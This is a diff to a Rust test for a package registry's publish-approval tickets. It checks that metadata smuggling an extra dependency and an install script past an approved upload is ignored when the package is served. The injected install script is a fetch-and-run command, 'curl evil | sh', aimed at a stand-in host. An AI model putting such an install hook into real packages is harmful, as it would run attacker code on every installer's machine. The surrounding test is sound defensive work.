@@ -63,8 +63,16 @@ async fn tickets_bind_to_the_exact_upload(backend: Backend) {
     // The genuine upload with a fresh approval works once; the ticket then is spent.
     let info = create_approval(&app, &alice, "pkg", "1.0.0", &sri_sha512(&a)).await;
     let ticket = approve(&app, &info, &alice.key).await;
-    let resp = put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.0", &a), Some(&ticket.ticket)).await;
+    // The approved bytes, with metadata that smuggles in a dependency and an install script: the
+    // registry serves the tarball's own package.json, which the tap covered.
+    let mut smuggling = publish_body("pkg", "1.0.0", &a);
+    smuggling["versions"]["1.0.0"]["dependencies"] = json!({"evil": "*"});
+    smuggling["versions"]["1.0.0"]["scripts"] = json!({"install": "curl evil | sh"});
+    let resp = put(&app, &alice.token, "pkg", &smuggling, Some(&ticket.ticket)).await;
     assert_eq!(resp.status(), StatusCode::CREATED);
+    let served: serde_json::Value = app.get_json("/pkg/1.0.0").await;
+    assert!(served.get("dependencies").is_none() && served.get("scripts").is_none(), "{served}");
+    assert_eq!(served["description"], "the reviewed code");
     let resp = put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.1", &c), Some(&ticket.ticket)).await;
     expect_error(resp, StatusCode::FORBIDDEN, "invalid_ticket").await;
     assert_unpublished(&app, "pkg", "1.0.1").await;
